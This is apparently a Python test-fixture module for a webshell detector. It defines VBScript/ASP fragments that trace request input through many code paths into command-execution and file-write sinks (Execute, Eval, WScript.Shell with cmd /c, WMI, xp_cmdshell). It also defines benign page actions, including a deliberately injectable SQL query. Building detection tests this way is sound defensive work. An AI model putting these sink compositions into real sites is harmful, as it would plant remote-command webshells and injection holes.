"""Ways of a value through VBScript, acts of web shells and of ordinary pages: each way is joined with each act.

In a way `S` is the source, and `@@x@@` the place of the act on `x`, where an act has `X`.  Alone none is a page.
"""

from tests.detection.webshell.styles.composing import pieces

WAYS = pieces(
    r"""
==== direct
@@S@@
==== var
a = S
@@a@@
==== dim
Dim a : a = S : b = a
@@b@@
==== fun
Function G
 G = S
End Function
@@G@@
==== fun2
Function G(n)
 G = S
End Function
@@G("x")@@
==== sub
Sub D(x)
@@x@@
End Sub
D S
==== call
Call D(S)
Sub D(ByVal x)
@@x@@
End Sub
==== byref
Sub T(ByRef x)
 x = S
End Sub
T a
@@a@@
==== chain
Sub A1(x)
A2 x
End Sub
Sub A2(x)
A3 x, 1
End Sub
Sub A3(x, n)
@@x@@
End Sub
A1 S
==== field
Class K
Public F
Public Sub Go
@@F@@
End Sub
End Class
Set k1 = New K
k1.F = S
k1.Go
==== mefield
Class K
Private m
Public Sub Init(x)
Me.Put x
End Sub
Public Sub Put(x)
m = x
End Sub
Public Sub Go
@@m@@
End Sub
End Class
Set k1 = New K
k1.Init S
k1.Go
==== prop
Class K
Private m
Public Property Let P(x)
m = x
End Property
Public Property Get P
P = m
End Property
End Class
Dim k1 : Set k1 = New K
k1.P = S
@@k1.P@@
==== propbr
Class K
Private m
Public Property Let P(x)
m = x
End Property
Public Property Get P()
P = m
End Property
End Class
Dim k1 : Set k1 = New K
k1.P = S
@@k1.P()@@
==== init
Class K
Private m
Private Sub Class_Initialize
m = S
End Sub
Public Sub Go
@@m@@
End Sub
End Class
(New K).Go
==== method
Class K
Public Function Read()
Read = S
End Function
Public Sub Act(x)
@@x@@
End Sub
End Class
Set k1 = New K
k1.Act k1.Read()
==== objarg
Class K
Public V
End Class
Sub D(o)
@@o.V@@
End Sub
Set k1 = New K
k1.V = S
D k1
==== nested
Class I
Public V
End Class
Class O
Public C
Private Sub Class_Initialize
Set C = New I
End Sub
End Class
Set o1 = New O
o1.C.V = S
@@o1.C.V@@
==== factory
Class K
Public V
Public Default Function Make(x)
V = x
Set Make = Me
End Function
End Class
Set k1 = (New K)(S)
@@k1.V@@
==== fluent
Class K
Public V
Public Function W(x)
V = V & x
Set W = Me
End Function
Public Sub Go
@@V@@
End Sub
End Class
Call (New K).W("").W(S).Go
==== array
Dim a(3)
a(1) = S
@@a(1)@@
==== arr2
a = Array("", S)
@@a(1)@@
==== redim
ReDim a(0)
a(0) = S
ReDim Preserve a(4)
@@a(0)@@
==== arrarg
Sub D(x)
@@x(0)@@
End Sub
D Array(S)
==== arrret
Function G
G = Array("", S)
End Function
b = G()
@@b(1)@@
==== join
@@Join(Array("", S), "")@@
==== split
a = Split(S, "|")
@@a(UBound(a))@@
==== loop
For Each p In Split(S, ";")
@@p@@
Next
==== forto
a = Split(S, ";")
For i = 0 To UBound(a)
@@a(i)@@
Next
==== dict
Set d = CreateObject("Scripting.Dictionary")
d.Add "k", S
@@d("k")@@
==== dict2
Set d = CreateObject("Scripting.Dictionary")
d("k") = S
@@d.Item("k")@@
==== dictarg
Sub D(x)
@@x("k")@@
End Sub
Set h = CreateObject("Scripting.Dictionary")
h("k") = S
D h
==== dictfield
Class K
Private d
Private Sub Class_Initialize
Set d = CreateObject("Scripting.Dictionary")
End Sub
Public Sub Put(n, v)
d(n) = v
End Sub
Public Function Take(n)
Take = d(n)
End Function
End Class
Set k1 = New K
k1.Put "a", S
@@k1.Take("a")@@
==== dictitems
Set d = CreateObject("Scripting.Dictionary")
d("k") = S
a = d.Items
@@a(0)@@
==== select
Select Case Request("m")
Case "1" : a = S
Case Else : a = ""
End Select
@@a@@
==== selectact
Select Case LCase(Request("m"))
Case "x", "y"
@@S@@
Case Else
Response.Write 1
End Select
==== if
If S <> "" Then
a = S
End If
If Len(a) > 0 Then
@@a@@
End If
==== elseif
If Request("m") = 1 Then
x = 1
ElseIf Request("m") = 2 Then
@@S@@
End If
==== while
n = 0
While n < 1
a = a & S
n = n + 1
Wend
@@a@@
==== do
Do
a = S
Exit Do
Loop
@@a@@
==== with
Class K
Public V
End Class
Set k1 = New K
With k1
.V = S
End With
@@k1.V@@
==== execdef
Execute "Function G()" & vbCrLf & "G = Request(""q"")" & vbCrLf & "End Function"
@@G()@@
==== execset
Execute "a = Request(""q"")"
@@a@@
==== execname
n = "a"
Execute n & " = zz"
a = S
@@a@@
==== getref
Sub D(x)
@@x@@
End Sub
Set g = GetRef("D")
g S
==== getreffield
Sub D(x)
@@x@@
End Sub
Class K
Public H
Public Sub Fire(x)
H x
End Sub
End Class
Set k1 = New K
Set k1.H = GetRef("D")
k1.Fire S
==== session
Session("z") = S
@@Session("z")@@
==== app
Application("z") = S
a = Application("z")
@@a@@
==== replace
a = Replace(S, "~", " ")
@@a@@
==== mid
a = Mid(S, 4)
@@a@@
==== rev
@@StrReverse(S)@@
==== chr
For i = 1 To Len(S)
a = a & Chr(Asc(Mid(S, i, 1)) Xor 9)
Next
@@a@@
==== hex
b = S
For i = 1 To Len(b) Step 2
a = a & Chr(CLng("&H" & Mid(b, i, 2)))
Next
@@a@@
==== hexfun
Function U(t)
Dim i
For i = 1 To Len(t) Step 2
U = U & Chr("&H" & Mid(t, i, 2))
Next
End Function
@@U(S)@@
==== regex
Set r = New RegExp
r.Pattern = "^k(.*)$"
Set m = r.Execute(S)
@@m(0).SubMatches(0)@@
==== regex2
Set r = New RegExp
r.Global = True
r.Pattern = "\s+"
a = r.Replace(S, " ")
@@a@@
==== xml
Set x = CreateObject("MSXML2.DOMDocument")
Set n = x.createElement("t")
n.text = S
@@n.text@@
==== xml2
Set x = CreateObject("MSXML2.DOMDocument")
x.loadXML S
@@x.selectSingleNode("//a").text@@
==== b64
Function B(t)
Set n = CreateObject("MSXML2.DOMDocument").createElement("b")
n.dataType = "bin.base64"
n.text = t
Set st = CreateObject("ADODB.Stream")
st.Type = 1
st.Open
st.Write n.nodeTypedValue
st.Position = 0
st.Type = 2
st.Charset = "us-ascii"
B = st.ReadText
End Function
@@B(S)@@
==== rs
Set rs = CreateObject("ADODB.Recordset")
rs.Fields.Append "v", 200, 4000
rs.Open
rs.AddNew
rs("v") = S
rs.Update
@@rs("v")@@
==== rsval
Set rs = CreateObject("ADODB.Recordset")
rs.Fields.Append "v", 200, 4000
rs.Open
rs.AddNew
rs.Fields("v").Value = S
@@rs.Fields("v").Value@@
==== blocks
a = S %>
<p>x</p>
<% @@a@@
==== ifblocks
If S <> "" Then %><b>
<% @@S@@ %>
</b><% End If
==== resume
On Error Resume Next
a = S
@@a@@
If Err Then Response.Write Err.Description
==== afterend
Response.Write 1
Response.End
@@S@@
==== option
Dim a
a = CStr(S)
If IsEmpty(a) Then a = ""
@@a@@
==== concat
a = ""
a = a & S
@@a & ""@@
==== const
Const N = "q"
@@Request(N)@@
==== alias
Set r = Request
@@r("q")@@
==== aliasform
Set r = Request.Form
@@r("q")@@
==== foreach
For Each k In Request.Form
If k = "q" Then a = Request.Form(k)
Next
@@a@@
==== foreachv
For Each k In Request.QueryString
@@Request.QueryString(k)@@
Next
==== iif
Function Pick(c, a, b)
If c Then
Pick = a
Else
Pick = b
End If
End Function
@@Pick(True, S, "")@@
==== rec
Function R(t, n)
If n <= 0 Then
R = t
Else
R = R(t, n - 1)
End If
End Function
@@R(S, 2)@@
==== exitfun
Function G()
G = ""
If Request("m") = "" Then Exit Function
G = S
End Function
@@G()@@
==== samename
Function Run(x)
@@x@@
End Function
Run S
==== samename3
Class T
Public Sub Write(x)
@@x@@
End Sub
Public Function Open(x)
Open = x
End Function
End Class
Set t1 = New T
t1.Write t1.Open(S)
==== samename4
Function Create(x)
@@x@@
End Function
Create S
==== cont
a = _
 S
@@a@@
==== colon
a = S : If a <> "" Then b = a
@@b@@
==== twofields
Class K
Private a, b
Public Sub S1(x, y)
a = x : b = y
End Sub
Public Sub Go
@@b@@
End Sub
End Class
Set k1 = New K
k1.S1 "x", S
k1.Go
==== outarr
Sub T(a)
a(0) = S
End Sub
Dim z(2)
T z
@@z(0)@@
==== objinit
Class K
Public V
End Class
Function NewK(x)
Dim r
Set r = New K
r.V = x
Set NewK = r
End Function
Set k1 = NewK(S)
@@k1.V@@
==== list
Class L
Private a()
Private n
Private Sub Class_Initialize
n = 0
ReDim a(10)
End Sub
Public Sub Add(x)
a(n) = x
n = n + 1
End Sub
Public Property Get Item(i)
Item = a(i)
End Property
End Class
Set l1 = New L
l1.Add S
@@l1.Item(0)@@
==== listdef
Class L
Private a
Public Sub Add(x)
a = Array(x)
End Sub
Public Default Property Get Item(i)
Item = a(i)
End Property
End Class
Set l1 = New L
l1.Add S
@@l1(0)@@
==== samename2
Class T
Public Sub ExecuteIt(x)
@@x@@
End Sub
End Class
Set t1 = New T
t1.ExecuteIt S
"""
)
ACTS = pieces(
    r"""
==== execute
Execute X
==== eg
ExecuteGlobal(X)
==== eval
v_ = Eval(X)
==== run
CreateObject("WScript.Shell").Run X, 0, True
==== exec
Set e_ = Server.CreateObject("WScript.Shell").Exec("cmd /c " & X)
==== runwith
With CreateObject("WScript.Shell")
.Run "%comspec% /c " & X
End With
==== shex
CreateObject("Shell.Application").ShellExecute "cmd.exe", "/c " & X, "", "open", 0
==== wmi
GetObject("winmgmts:\\.\root\cimv2:Win32_Process").Create X, Null, Null, pid_
==== sc
Set sc_ = CreateObject("MSScriptControl.ScriptControl")
sc_.Language = "VBScript"
sc_.ExecuteStatement X
==== write
Set f_ = CreateObject("Scripting.FileSystemObject").CreateTextFile(X, True)
f_.Write Request("body")
==== stream
Set s_ = CreateObject("ADODB.Stream")
s_.Type = 1
s_.Open
s_.Write Request.BinaryRead(Request.TotalBytes)
s_.SaveToFile X, 2
==== inc
Server.Execute X
==== xp
Set c_ = CreateObject("ADODB.Connection")
c_.Open "x"
c_.Execute "EXEC master..xp_cmdshell '" & X & "'"
"""
)
ORDINARY = pieces(
    r"""
==== write
Response.Write Server.HTMLEncode(X)
==== sql
Set q_ = conn.Execute("SELECT * FROM t WHERE n = '" & Replace(X, "'", "''") & "' ORDER BY 1")
==== sqlinj
Set c_ = Server.CreateObject("ADODB.Connection")
c_.Open Application("cs")
Set q_ = c_.Execute("SELECT * FROM t WHERE n = " & X)
c_.Close
Set c_ = Nothing
==== rs
Set r_ = Server.CreateObject("ADODB.Recordset")
r_.Open "SELECT * FROM t ORDER BY " & X, conn, 1, 3
==== redir
Response.Redirect "list.asp?q=" & X
==== log
Set l_ = CreateObject("Scripting.FileSystemObject").OpenTextFile(Server.MapPath("log.txt"), 8, True)
l_.WriteLine Now & " " & X
==== num
CreateObject("Scripting.FileSystemObject").DeleteFile Server.MapPath("tmp/" & CLng(X) & ".txt")
==== shnum
CreateObject("WScript.Shell").Run "C:\t\thumb.exe " & CLng(X), 0, True
==== mail
Set m_ = CreateObject("CDO.Message")
m_.To = "a@example.com"
m_.TextBody = X
m_.Send
==== sess
Session("last") = X
==== http
Set h_ = CreateObject("MSXML2.ServerXMLHTTP")
h_.Open "GET", "http://a.example/?q=" & Server.URLEncode(X), False
h_.Send
Response.Write h_.responseText
==== cmd
Set k_ = CreateObject("ADODB.Command")
k_.ActiveConnection = conn
k_.CommandText = "INSERT INTO t VALUES (?)"
k_.Execute , Array(X)
==== evalnum
v_ = Eval("price" & CInt(X))
==== shfix
CreateObject("WScript.Shell").Run "C:\t\job.cmd", 0, True
Response.Write X
==== save
Set f_ = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("note.txt"), True)
f_.Write X
"""
)
